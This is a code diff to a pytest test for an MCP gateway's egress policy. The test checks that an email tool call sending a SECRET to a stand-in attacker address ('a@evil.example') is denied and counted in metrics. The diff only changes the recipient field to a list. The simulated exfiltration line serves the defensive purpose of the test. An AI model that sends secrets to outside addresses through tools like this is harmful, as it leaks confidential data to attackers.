@@ -95,9 +95,9 @@ async def test_gateway_process_metrics_and_logs(tmp_path: Path, enclave: Enclave
         url = f"http://127.0.0.1:{gw_port}/mcp/demo"
         wait_up(url)
         async with agent(url) as client:
-            await client.call_tool("email.send_external", {"to": "a@partner.example", "body": SECRET})
+            await client.call_tool("email.send_external", {"to": ["bob@partner.example"], "body": SECRET})
             with pytest.raises(MCPError):
-                await client.call_tool("email.send_external", {"to": "a@evil.example", "body": SECRET})
+                await client.call_tool("email.send_external", {"to": ["a@evil.example"], "body": SECRET})
         assert await calls(up_port) == 1
         metrics = (await get(f"http://127.0.0.1:{metrics_port}/metrics")).text
         assert 'cmcp_gateway_requests_total{code="POLICY_DENY"} 1.0' in metrics
